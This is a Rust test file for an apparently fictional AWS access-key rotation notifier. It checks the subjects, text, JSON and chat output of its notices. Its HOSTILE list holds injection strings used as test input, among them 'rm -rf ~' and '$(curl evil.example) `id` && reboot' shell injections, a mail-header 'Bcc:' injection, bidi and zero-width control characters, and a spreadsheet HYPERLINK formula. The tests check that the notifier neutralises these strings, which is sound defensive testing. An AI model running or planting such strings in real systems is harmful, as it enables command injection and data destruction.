//! What is sent, to the letter.

#![allow(clippy::unwrap_used, clippy::panic)]

use jiff::SignedDuration;
use keyminder_keyage::notice::{self, AttributeValue, Context};
use keyminder_keyage::{
    CredentialKind, Exemption, Finding, Format, Inactive, Key, KeyStatus, LastUsed, Limit, Notice, NoticeKind,
    ReadError, Report, Settings, User, notices,
};
use keyminder_testkit::keys::{self, ago, by_hand, deployment, key, now, report, user};
use serde_json::Value;

fn owned(name: &str, owner: &str) -> User {
    User { tags: Some(vec![("Owner".to_owned(), owner.to_owned())]), ..user(name) }
}

/// An account with one of everything.
fn everything() -> (Settings, Report) {
    let exemption = |user: &str, until: &str, reason: &str| Exemption {
        user: user.to_owned(),
        access_key_id: None,
        until: until.parse().unwrap(),
        reason: reason.to_owned(),
        approved_by: None,
    };
    let settings = Settings {
        warn_days: vec![14, 7, 1],
        unused_days: Some(45),
        inactive: Inactive::Report,
        exemptions: vec![
            exemption("vendor-*", "2027-03-31", "the vendor is moving to a role"),
            exemption("carl", "2026-10-01", "was on leave"),
        ],
        limits: vec![Limit { user: Some("ci-*".to_owned()), max_age_days: 180, ..Limit::default() }],
        ..Settings::default()
    };
    let never = Key { last_used: LastUsed::Never, ..key("AKIAIOSFODNN7NEVER00", 200) };
    let off = Key { status: KeyStatus::Inactive, ..key("AKIAIOSFODNN7OFF0000", 700) };
    let idle = Key {
        last_used: LastUsed::At { at: ago(60), service: Some("ec2".to_owned()), region: Some("us-east-1".to_owned()) },
        ..key("AKIAIOSFODNN7IDLE000", 70)
    };
    let mut report = report(
        &settings,
        &[
            (owned("alice.smith@example.com", "platform team"), key("AKIAIOSFODNN7ALICE00", 412)),
            (user("bob"), never),
            (user("carl"), key("AKIAIOSFODNN7CARL000", 120)),
            (user("ci-deploy"), key("AKIAIOSFODNN7CI00000", 181)),
            (user("dora"), key("AKIAIOSFODNN7DORA000", 83)),
            (user("vendor-backup"), key("AKIAIOSFODNN7VENDOR0", 300)),
            (user("erik"), off),
            (user("finn"), idle),
            (user("gil"), key("AKIAIOSFODNN7GIL0000", 3)),
        ],
    );
    report.account_alias = Some("example-prod".to_owned());
    let error = ReadError {
        user: Some("hank".to_owned()),
        operation: "iam:ListAccessKeys".to_owned(),
        code: "AccessDenied".to_owned(),
        message: "not authorized to perform: iam:ListAccessKeys on resource: user hank".to_owned(),
    };
    report.add(Finding::unknown(&user("hank"), "iam:ListAccessKeys: AccessDenied: not authorized".to_owned()), true);
    report.errors.push(error);
    report.summary.users += 1;
    report.summary.users_unknown = 1;
    report.complete = false;
    report.root_access_keys = Some(1);
    report.sort();
    (settings, report)
}

fn show(notice: &Notice) -> String {
    format!("Subject: {}\nSMS: {}\n\n{}", notice.subject, notice.sms, notice.text)
}

#[test]
fn a_digest_of_one_old_key_reads_so() {
    let settings = Settings::default();
    let report = report(&settings, &[(user("alice"), key("AKIAIOSFODNN7EXAMPLE", 91)), (user("bob"), key("AKIA2", 4))]);
    let context = Context::scheduled(&deployment("cron(0 9 * * ? *)"), now());
    let sent = notices(&report, &settings, &context);
    assert_eq!(sent.len(), 1);
    insta::assert_snapshot!(show(&sent[0]));
}

#[test]
fn a_digest_of_everything_reads_so() {
    let (settings, report) = everything();
    let context = Context { install: "prod eu".to_owned(), ..by_hand() };
    let sent = notices(&report, &settings, &context);
    assert_eq!(sent.len(), 1);
    insta::assert_snapshot!(show(&sent[0]));
    let document: Value = serde_json::from_str(&sent[0].json).unwrap();
    insta::assert_json_snapshot!(document);
}

#[test]
fn notices_per_key_use_the_words_of_the_procedure() {
    let (settings, report) = everything();
    let settings = Settings { notice: NoticeKind::PerKey, ..settings };
    let sent = notices(&report, &settings, &by_hand());
    let alice = sent.iter().find(|notice| notice.subject.contains("alice")).unwrap();
    assert_eq!(alice.subject, "Access Keys Need Rotating For User: alice.smith@example.com");
    let first = alice.text.lines().next().unwrap();
    assert_eq!(first, "You need to rotate access key: AKIAIOSFODNN7ALICE00 for user: alice.smith@example.com");
    let dora = sent.iter().find(|notice| notice.subject.contains("dora")).unwrap();
    assert!(dora.text.starts_with("You will soon need to rotate access key: AKIAIOSFODNN7DORA000 for user: dora\n"));
    // The account's own matters come once, and nobody is mentioned twice.
    assert_eq!(sent.iter().filter(|notice| notice.text.contains("THE ROOT USER")).count(), 1);
    assert_eq!(sent.iter().filter(|notice| notice.text.contains("AKIAIOSFODNN7BOB")).count(), 0);
    insta::assert_snapshot!(sent.iter().map(|notice| notice.subject.clone()).collect::<Vec<_>>().join("\n"));
}

#[test]
fn notices_per_user_gather_a_users_keys() {
    let settings = Settings { notice: NoticeKind::PerUser, ..Settings::default() };
    let alice = user("alice");
    let report = report(
        &settings,
        &[(alice.clone(), key("AKIA1", 100)), (alice, key("AKIA2", 200)), (user("bob"), key("AKIA3", 300))],
    );
    let sent = notices(&report, &settings, &by_hand());
    let subjects: Vec<&str> = sent.iter().map(|notice| notice.subject.as_str()).collect();
    assert_eq!(
        subjects,
        ["1 IAM access key older than 90 days of user bob", "2 IAM access keys older than 90 days of user alice"]
    );
    let attribute = |name: &str| sent[1].attributes.iter().find(|found| found.name == name).unwrap().value.clone();
    assert_eq!(attribute("user"), AttributeValue::Text("alice".to_owned()));
    assert_eq!(attribute("oldest_age_days"), AttributeValue::Number(200));
    assert_eq!(attribute("verdict"), AttributeValue::Text("old".to_owned()));
    assert_eq!(attribute("account"), AttributeValue::Text("123456789012".to_owned()));
}

#[test]
fn a_chat_notification_reads_so() {
    let (settings, report) = everything();
    let settings = Settings { format: Format::Chat, ..settings };
    let sent = notices(&report, &settings, &by_hand());
    assert_eq!(sent.len(), 1);
    assert!(!sent[0].structured);
    let message: Value = serde_json::from_str(&sent[0].message).unwrap();
    insta::assert_json_snapshot!(message);
}

#[test]
fn a_test_notice_says_that_it_is_one() {
    let settings = Settings::default();
    let notice = notice::test_notice("123456789012", &settings, &by_hand());
    insta::assert_snapshot!(show(&notice));
    let chat = Settings { format: Format::Chat, ..settings };
    assert!(notice::test_notice("123456789012", &chat, &by_hand()).message.contains("This is a test"));
}

#[test]
fn each_protocol_gets_its_form() {
    let (settings, report) = everything();
    let sent = notices(&report, &settings, &by_hand());
    let texts: Value = serde_json::from_str(&sent[0].message).unwrap();
    assert!(sent[0].structured);
    assert_eq!(texts["email"], sent[0].text);
    assert_eq!(texts["sms"], sent[0].sms);
    // SQS, Lambda, HTTP, HTTPS, Firehose and email-json take `default`.
    assert_eq!(texts["default"], sent[0].json);
    for protocol in ["sqs", "lambda", "http", "https", "firehose", "email-json"] {
        assert!(texts.get(protocol).is_none());
    }
}

fn assert_sendable(notice: &Notice) {
    let subject = &notice.subject;
    assert!(!subject.is_empty() && subject.len() < 100, "{subject:?} has {} characters", subject.len());
    assert!(subject.chars().all(|c| c.is_ascii_graphic() || c == ' '), "{subject:?}");
    assert!(subject.starts_with(|c: char| c.is_ascii_graphic()), "{subject:?}");
    assert!(notice.sms.is_ascii() && notice.sms.len() <= 140, "{:?}", notice.sms);
    let attributes: usize = notice
        .attributes
        .iter()
        .map(|attribute| {
            attribute.name.len()
                + match &attribute.value {
                    AttributeValue::Text(text) => {
                        assert!(!text.is_empty());
                        text.len()
                    }
                    AttributeValue::Number(_) => 20,
                }
        })
        .sum();
    assert!(notice.attributes.len() <= 10);
    assert!(notice.message.len() + attributes + subject.len() < 262_144, "{} bytes", notice.message.len());
}

#[test]
fn the_longest_user_name_fits_into_a_subject() {
    for kind in NoticeKind::ALL {
        for name in ["n".repeat(64), "漢".repeat(64)] {
            let settings = Settings { notice: *kind, ..Settings::default() };
            let mut report = report(&settings, &[(user(&name), key("AKIA1", 100))]);
            report.account_alias = Some("a".repeat(63));
            for notice in notices(&report, &settings, &by_hand()) {
                assert_sendable(&notice);
            }
        }
    }
}

#[test]
fn a_digest_of_the_whole_quota_is_split_between_lines_and_numbered() {
    let settings = Settings::default();
    let keys: Vec<(User, Key)> = (0..10_000)
        .map(|n| {
            (
                owned(&format!("user-{n:05}-{}", "\"\\".repeat(20)), "the owner"),
                key(&format!("AKIA{n:016}"), 91 + n % 300),
            )
        })
        .collect();
    let report = report(&settings, &keys);
    let sent = notices(&report, &settings, &by_hand());
    assert!(sent.len() > 3 && sent.len() < 40, "{}", sent.len());
    let mut listed = 0;
    for (index, notice) in sent.iter().enumerate() {
        assert_sendable(notice);
        let marker = format!("({}/{})", index + 1, sent.len());
        assert!(notice.subject.ends_with(&marker), "{}", notice.subject);
        assert!(notice.text.lines().next().unwrap().contains(&marker));
        let document: Value = serde_json::from_str(&notice.json).unwrap();
        assert_eq!((&document["part"], &document["parts"]), (&Value::from(index + 1), &Value::from(sent.len())));
        let keys = document["keys"].as_array().unwrap();
        listed += keys.len();
        assert!(notice.text.contains("keyminder check"), "{}", notice.text);
        assert!(notice.message.len() > 150_000 || index + 1 == sent.len(), "part {marker} is small");
    }
    assert_eq!(listed, 10_000, "programs get all of them");
    assert!(sent[0].text.contains("and 9950 keys more. To list all keys, run: keyminder check"));
}

#[test]
fn the_text_keeps_to_72_columns_but_for_names_and_commands() {
    let (settings, report) = everything();
    for kind in NoticeKind::ALL {
        let settings = Settings { notice: *kind, ..settings.clone() };
        for notice in notices(&report, &settings, &by_hand()) {
            for line in notice.text.lines() {
                let exempt = line.contains("aws iam") || line.contains("access key: ");
                assert!(line.chars().count() <= 72 || exempt, "{line:?}");
                assert_eq!(line.trim_end(), line);
            }
        }
    }
}

/// Words that try to break out of where they are put.
const HOSTILE: &[&str] = &[
    "eve\nBcc: everyone@example.com",
    "eve\r\n\r\nYour account is fine.",
    "eve\u{2028}line\u{2029}para\u{85}next",
    "eve\u{202E}gnp.exe\u{202C}\u{2066}x\u{2069}",
    "ad\u{200B}min\u{FEFF}\u{00AD}",
    "https://evil.example/login",
    "HTTP://evil.example WWW.evil.example",
    "<a href=\"https://evil.example\">click</a>",
    "<!channel> <https://evil.example|click> *bold* `code`",
    "'; rm -rf ~; echo '",
    "$(curl evil.example) `id` && reboot",
    "--profile",
    "{user}{key}{install}",
    "\u{1B}[31mred\u{7}\0",
    "=HYPERLINK(\"https://evil.example\")",
    "\"},{\"verdict\":\"fresh\"",
    "",
];

#[test]
fn hostile_words_break_nothing() {
    for hostile in HOSTILE {
        for kind in NoticeKind::ALL {
            for format in Format::ALL {
                let settings = Settings {
                    notice: *kind,
                    format: *format,
                    exemptions: vec![Exemption {
                        user: hostile.to_string(),
                        access_key_id: None,
                        until: "2020-01-01".parse().unwrap(),
                        reason: hostile.to_string(),
                        approved_by: Some(hostile.to_string()),
                    }],
                    ..Settings::default()
                };
                let key = Key {
                    last_used: LastUsed::At {
                        at: ago(1),
                        service: Some(hostile.to_string()),
                        region: Some(hostile.to_string()),
                    },
                    ..key("AKIA1", 100)
                };
                let mut report = report(&settings, &[(owned(hostile, hostile), key)]);
                report.account_alias = Some(hostile.to_string());
                report.root_access_keys = Some(1);
                report.complete = false;
                report.errors.push(ReadError {
                    user: Some(hostile.to_string()),
                    operation: "iam:ListUserTags".to_owned(),
                    code: hostile.to_string(),
                    message: hostile.to_string(),
                });
                let calm = {
                    let mut report = report.clone();
                    report.account_alias = None;
                    report
                };
                let sent = notices(&report, &settings, &by_hand());
                assert!(!sent.is_empty() && sent.len() == notices(&calm, &settings, &by_hand()).len());
                for notice in &sent {
                    assert_sendable(notice);
                    let shown = if notice.structured { notice.text.clone() } else { chat_texts(notice) };
                    for c in shown.chars() {
                        let harmless = c == '\n' || !c.is_control();
                        assert!(
                            harmless && !"\u{2028}\u{2029}\u{202E}\u{2066}\u{200B}\u{FEFF}\u{AD}".contains(c),
                            "{c:?}"
                        );
                    }
                    let outside_commands: String = shown
                        .lines()
                        .filter(|line| !line.contains("--user-name") && !line.starts_with("       "))
                        .collect();
                    assert!(!outside_commands.contains("://"), "{shown}");
                    assert!(!outside_commands.to_lowercase().contains("www."), "{shown}");
                    assert!(!shown.lines().any(|line| line.starts_with("Bcc:") || line.starts_with("Your account")));
                    if !notice.structured {
                        assert!(!shown.contains("<!") && !shown.contains("<http"), "{shown}");
                    }
                    let document: Value = serde_json::from_str(&notice.json).unwrap();
                    if let Some(found) = document["keys"].get(0) {
                        assert_eq!(found["user"], *hostile, "machines get the name as it is");
                        assert_eq!(found["verdict"], "old");
                    }
                }
            }
        }
    }
}

fn chat_texts(notice: &Notice) -> String {
    let message: Value = serde_json::from_str(&notice.message).unwrap();
    let content = &message["content"];
    let mut texts =
        vec![content["title"].as_str().unwrap().to_owned(), content["description"].as_str().unwrap().to_owned()];
    texts.extend(content["nextSteps"].as_array().unwrap().iter().map(|step| step.as_str().unwrap().to_owned()));
    texts.join("\n")
}

#[test]
fn commands_quote_the_name_for_the_shell() {
    let settings = Settings::default();
    let report = report(&settings, &[(user("'; rm -rf ~; echo '"), key("AKIA1", 100))]);
    let sent = notices(&report, &settings, &by_hand());
    assert!(sent[0].text.contains(r"--user-name ''\''; rm -rf ~; echo '\'''"), "{}", sent[0].text);
}

#[test]
fn other_credentials_are_named_for_what_they_are() {
    let settings = Settings { other_credentials: true, ..Settings::default() };
    let ssh = Key { kind: CredentialKind::SshPublicKey, last_used: LastUsed::NotRead, ..key("APKA1", 100) };
    let report = report(&settings, &[(user("alice"), ssh)]);
    let sent = notices(&report, &settings, &by_hand());
    assert!(sent[0].text.contains("alice  SSH public key APKA1  100 days old\n"), "{}", sent[0].text);
    assert!(sent[0].text.contains("update- and delete-ssh-public-key"));
    assert!(!sent[0].text.contains("create-access-key"));
}

#[test]
fn a_key_that_turned_old_since_the_last_run_is_marked_new() {
    let settings = Settings::default();
    let fresh = Key { created: now() - SignedDuration::from_hours(24 * 90 + 12), ..key("AKIANEW", 0) };
    let report = report(&settings, &[(user("alice"), fresh), (user("bob"), key("AKIAKNOWN", 200))]);
    let sent = notices(&report, &settings, &Context::scheduled(&deployment("cron(0 9 * * ? *)"), now()));
    let text = sent[0].text.split_whitespace().collect::<Vec<_>>().join(" ");
    assert!(text.contains("AKIANEW 90 days and 12 hours old (new)"), "{text}");
    assert!(text.contains("limit 90 days"), "the limit stands beside an age of as many days: {text}");
    assert!(sent[0].text.contains("AKIAKNOWN  200 days old\n"));
}

/// The part of JSON Schema that the schema of notices uses.
fn assert_valid(value: &Value, schema: &Value, root: &Value, path: &str) {
    if let Some(reference) = schema["$ref"].as_str() {
        return assert_valid(value, &root["$defs"][reference.rsplit('/').next().unwrap()], root, path);
    }
    if let Some(constant) = schema.get("const") {
        assert_eq!(value, constant, "{path}");
    }
    if let Some(values) = schema["enum"].as_array() {
        assert!(values.contains(value), "{path}: {value}");
    }
    let types: Vec<&str> = match &schema["type"] {
        Value::String(one) => vec![one],
        Value::Array(several) => several.iter().map(|one| one.as_str().unwrap()).collect(),
        _ => Vec::new(),
    };
    let found = match value {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "integer",
        Value::String(_) => "string",
        Value::Array(_) => "array",
        Value::Object(_) => "object",
    };
    assert!(types.is_empty() || types.contains(&found), "{path}: {value} is not {types:?}");
    if let Some(object) = value.as_object() {
        for name in schema["required"].as_array().into_iter().flatten() {
            assert!(object.contains_key(name.as_str().unwrap()), "{path} has no {name}");
        }
        for (name, value) in object {
            let schema = schema["properties"].get(name).unwrap_or_else(|| panic!("{path}.{name} is not in the schema"));
            assert_valid(value, schema, root, &format!("{path}.{name}"));
        }
    }
    for (index, value) in value.as_array().into_iter().flatten().enumerate() {
        assert_valid(value, &schema["items"], root, &format!("{path}[{index}]"));
    }
}

#[test]
fn every_document_is_as_the_schema_says() {
    let schema: Value = serde_json::from_str(include_str!("../../../docs/notice.schema.json")).unwrap();
    let (settings, report) = everything();
    let mut sent = vec![notice::test_notice("123456789012", &settings, &by_hand())];
    for kind in NoticeKind::ALL {
        sent.extend(notices(&report, &Settings { notice: *kind, ..settings.clone() }, &by_hand()));
    }
    let clear = Settings { all_clear: keyminder_keyage::AllClear::Always, ..Settings::default() };
    sent.extend(notices(&keys::report(&clear, &[]), &clear, &by_hand()));
    for notice in &sent {
        assert_valid(&serde_json::from_str(&notice.json).unwrap(), &schema, &schema, "notice");
    }
    let kinds: std::collections::BTreeSet<_> = sent
        .iter()
        .map(|notice| serde_json::from_str::<Value>(&notice.json).unwrap()["type"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(kinds.len(), 6, "{kinds:?}");
}

#[test]
fn users_that_could_not_be_read_for_one_reason_are_told_three_times_and_then_named() {
    let settings = Settings::default();
    let mut report = report(&settings, &[]);
    for number in 0..60 {
        let name = format!("user-{number}");
        let reason = format!("iam:ListAccessKeys: AccessDenied: not authorized on resource: user {name}");
        report.add(Finding::unknown(&user(&name), reason), true);
    }
    report.summary.users_unknown = 60;
    report.complete = false;
    report.sort();
    let all = notices(&report, &settings, &by_hand());
    assert_eq!(all.len(), 1);
    let text = &all[0].text;
    assert_eq!(text.matches("not authorized on resource").count(), 3, "{text}");
    assert!(text.contains("57 more") && text.contains("and 7 more."), "{text}");
    assert!(text.contains("keyminder plan"), "{text}");
    let document: Value = serde_json::from_str(&all[0].json).unwrap();
    assert_eq!(document["keys"].as_array().unwrap().len(), 60, "machines get them all");
}
